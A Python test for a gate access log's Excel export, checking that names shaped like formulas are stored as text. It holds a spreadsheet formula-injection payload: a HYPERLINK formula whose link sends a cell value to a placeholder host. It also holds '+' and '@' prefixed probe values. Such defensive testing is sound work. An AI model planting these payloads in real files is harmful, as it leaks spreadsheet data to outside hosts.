"""The gate log export never holds a live formula: gate, compound and household names that look like
formulas are written as text."""

import io

from openpyxl import load_workbook

HYPERLINK = '=HYPERLINK("http://x/?x="&A2,"点我")'


def test_names_like_formulas_are_exported_as_text(login, world, passes, scan):
    scan(passes["household_a1"], "out")
    world.gate_a.name = HYPERLINK
    world.gate_a.save()
    world.compound_a.name = "+阳光小区"
    world.compound_a.save()
    world.household_a1.label = "@3栋1单元101"
    world.household_a1.save()
    r = login(world.staff_a).get("/access/passages/export.xlsx")
    assert r.status_code == 200
    found = [cell for row in load_workbook(io.BytesIO(r.content)).active.iter_rows() for cell in row]
    assert not [c.coordinate for c in found if c.data_type == "f"]
    assert {HYPERLINK, "+阳光小区", "@3栋1单元101"} <= {c.value for c in found}
